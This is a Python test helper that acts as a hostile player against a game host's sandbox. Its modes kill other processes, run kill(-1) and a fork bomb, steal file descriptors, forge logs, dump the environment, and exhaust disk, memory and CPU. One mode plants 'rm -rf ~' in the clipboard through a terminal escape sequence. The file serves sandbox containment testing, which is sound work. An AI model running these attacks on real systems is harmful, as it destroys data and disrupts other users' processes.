#!/usr/bin/env python3
"""A hostile legacy player for the security tests: it tries one attack (MODE) on the host, the
other players or the machine, reports on its stderr what it managed ("attack: ..."), and then
plays as well as it can (staircases, legal under tests/data/two_letters.txt) unless the attack
is the way it plays. Attacks that need no game are made before it says r, so that no game ends
before every attacker has made and reported its own.

    attacker.py MODE [--victim TAG] [--port N] [--read HEX...] [--idle] [--tag TAG]

Unsandboxed, these attacks work (the tests show it for the ones that are safe to run so); in a
sandbox the host must contain every one.
"""
import ctypes
import os
import select
import signal
import socket
import sys
import time

from staircase import staircase

args = sys.argv[1:]
mode = args[0]


def option(name):
    return args[args.index(name) + 1] if name in args else None


victim = option("--victim")
hand = []


def report(text):
    os.write(2, ("attack: " + text + "\n").encode("utf-8", "backslashreplace"))


def send(data):
    os.write(1, data if isinstance(data, bytes) else data.encode())


def receive(timeout=None):
    """Adds the letters the host sent to the hand; False at end of input."""
    if not select.select([0], [], [], timeout)[0]:
        return True
    data = os.read(0, 65536).decode()
    if not data:
        return False
    while not data.endswith("."):
        more = os.read(0, 65536).decode()
        if not more:
            return False
        data += more
    hand.extend(c for c in data if c != ".")
    return True


def first_hand():
    send("r")
    receive()
    while select.select([0], [], [], 0)[0]:
        receive(0)


def play():
    """Peel whenever new tiles have come, to the end; with --idle, never move at all."""
    if "--idle" in args:
        time.sleep(3600)
    send("p" + staircase(hand))
    while receive():
        while select.select([0], [], [], 0)[0]:
            if not receive(0):
                return
        send("p" + staircase(hand))


def cmdline(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return f.read().split(b"\0")
    except OSError:
        return []


def visible_pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def victims():
    """The victim bot's processes: all this player can find of them."""
    found = []
    for pid in visible_pids():
        argv = cmdline(pid)
        if victim and victim.encode() in argv:
            found.append(pid)
    return found


def wait_for_victims():
    """The victims, once there are any (a second at most: called once the game is dealt, when
    every victim it could see is running, it waits only where it sees none)."""
    for _ in range(50):
        found = victims()
        if found:
            return found
        time.sleep(0.02)
    return []


if mode == "signal-others":  # SIGSTOP, then SIGKILL, every victim it can see
    # Once dealt, every player has said r: a victim it can see is running by then.
    first_hand()
    targets = wait_for_victims()
    for pid in targets:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            # Said first: a game its attack ends may end this player before it says anything.
            report("sending signal %d to %d %r" % (sig, pid, cmdline(pid)))
            try:
                os.kill(pid, sig)
            except OSError as e:
                report("cannot signal %d: %s" % (pid, e))
    report("saw %d processes, %d victims" % (len(visible_pids()), len(targets)))
    play()
elif mode == "signal-host":  # SIGSTOP, SIGTERM, SIGKILL every host it can see: no game, no loss
    for pid in visible_pids():
        argv = cmdline(pid)
        if argv and os.path.basename(argv[0]) == b"host":
            for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                report("sending signal %d to the host %d" % (sig, pid))
                try:
                    os.kill(pid, sig)
                except OSError as e:
                    report("cannot signal the host %d: %s" % (pid, e))
    report("saw %d processes" % len(visible_pids()))
    first_hand()
    play()
elif mode == "kill-everything":  # kill(-1): every process it may signal (sandboxed only!)
    first_hand()
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as e:
        report("kill(-1): %s" % e)
    play()
elif mode == "steal-fds":  # take the victims' stdin and stdout (pidfd_getfd), write into it
    send("r")
    receive()
    libc = ctypes.CDLL(None, use_errno=True)
    targets = wait_for_victims()
    report("found %d victims" % len(targets))
    for pid in targets:
        pidfd = libc.syscall(434, pid, 0)  # pidfd_open
        stdin = libc.syscall(438, pidfd, 0, 0) if pidfd >= 0 else -1  # pidfd_getfd
        stdout = libc.syscall(438, pidfd, 1, 0) if pidfd >= 0 else -1
        report("pidfd_getfd on %d: %s" % (pid, "got its fd 0" if stdin >= 0 else
                                          "refused (errno %d)" % ctypes.get_errno()))
        if stdout >= 0:
            report("writing into the output of %d" % pid)
            os.write(stdout, b"zz")
    play()
elif mode == "forge-log":  # every descriptor past stderr: write records into it, cut it
    fds = []
    for fd in range(3, 1024):
        try:
            os.fstat(fd)
            fds.append(fd)
        except OSError:
            pass
    report("descriptors past stderr: %s" % (" ".join(map(str, fds)) or "none"))
    for fd in fds:
        try:
            os.write(fd, b'{"seq":9,"t":0,"result":{}}\n')
            os.ftruncate(fd, 0)
            report("forged descriptor %d" % fd)
        except OSError:
            pass
    first_hand()
    play()
elif mode == "read-files":  # the paths after --read, in hex so that its command names none
    for path in args[args.index("--read") + 1:]:
        if path.startswith("--"):
            break
        path = bytes.fromhex(path).decode()
        try:
            with open(path, "rb") as f:
                report("read %s: %d bytes" % (path, len(f.read())))
        except OSError as e:
            report("cannot read %s: %s" % (path, e.strerror))
    first_hand()
    play()
elif mode == "write-files":  # its own directory, /var/tmp, and /tmp past its size
    here = os.path.dirname(os.path.abspath(__file__))
    for path in (os.path.join(here, "attacker-was-here"), "/var/tmp/attacker-was-here"):
        try:
            with open(path, "w") as f:
                f.write("x")
            report("wrote %s" % path)
        except OSError as e:
            report("cannot write %s: %s" % (path, e.strerror))
    written = 0
    try:
        with open("/tmp/fill", "wb") as f:
            for _ in range(1024):
                f.write(b"x" * (1 << 20))
                f.flush()
                written += 1
    except OSError as e:
        report("/tmp took %d MiB: %s" % (written, e.strerror))
    first_hand()
    play()
elif mode == "environment":
    for name in sorted(os.environ):
        report("env %s=%s" % (name, os.environ[name]))
    first_hand()
    play()
elif mode == "network":  # connect to a port on the host's loopback
    try:
        socket.create_connection(("127.0.0.1", int(option("--port"))), timeout=2).close()
        report("connected")
    except OSError as e:
        report("cannot connect: %s" % e)
    first_hand()
    play()
elif mode == "fork-bomb":  # fork until refused, hold them all, then play
    children = 0
    try:
        while children < 100000:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
            children += 1
    except OSError as e:
        report("forked %d, then: %s" % (children, e.strerror))
    first_hand()
    play()
elif mode == "memory":  # take (and fill) more memory than it is given
    try:
        hog = bytearray(1 << 30)
        report("took 1 GiB of memory")
    except MemoryError:
        report("1 GiB of memory: refused")
    first_hand()
    play()
elif mode == "files":  # take more descriptors and file than it is given
    files = []
    try:
        while len(files) < 100000:
            files.append(open("/dev/null"))
    except OSError as e:
        report("opened %d files, then: %s" % (len(files), e.strerror))
    for f in files:
        f.close()
    try:
        with open("/tmp/big", "wb") as f:  # Python ignores SIGXFSZ: the write fails instead
            f.write(b"x" * (4 << 20))
        report("wrote a 4 MiB file")
    except OSError as e:
        report("a 4 MiB file: %s" % e.strerror)
    first_hand()
    play()
elif mode == "burn-cpu":  # ready, then spin
    first_hand()
    while True:
        pass
elif mode == "dump-flood":  # dump, and dump again when refused, for ever
    first_hand()
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    while True:
        letter = hand.pop()
        send("d" + letter)
        if not receive():  # three tiles, or its own letter back when the bunch is short
            break
elif mode == "daemon":  # double fork and setsid: a daemon that outlives the game, if it can
    started, ready = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(ready, b"!")  # it is out of this player's group and session now
            os.closerange(0, 3)
            os.close(ready)
            os.close(started)
            while True:
                time.sleep(60)
        os._exit(0)
    os.close(ready)
    os.read(started, 1)
    first_hand()
    play()
elif mode == "terminal":  # erase its prefix, fake the host's verdict, write the clipboard
    os.write(2, b"\x1b[2K\r[  99.000s] game over: bananas, player 2 won\n")
    os.write(2, b"\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m\xff\xfe\n")
    first_hand()
    play()
elif mode == "bad-byte-peel":  # a grid cell that is not a byte of UTF-8
    first_hand()
    send(b"p002001A\xff")
    time.sleep(3600)
elif mode in ("stale-flood", "big-stale-flood"):  # a legal stale peel, again and again
    send("r")
    data = ""
    while data.count(".") < 2:  # the hand, then another player's peel's tile
        data += os.read(0, 65536).decode()
    grid = staircase(data.split(".")[0])
    if mode == "big-stale-flood":  # the same tiles in a corner of a 999x999 grid
        width, height = int(grid[:3]), int(grid[3:6])
        rows = [grid[6 + r * width:6 + (r + 1) * width].ljust(999, ".") for r in range(height)]
        grid = "999999" + "".join(rows) + "." * (999 * (999 - height))
    message = ("p" + grid).encode()
    batch = message * max(1, 65536 // len(message))
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    while True:
        send(batch)
else:
    sys.exit("unknown mode " + mode)
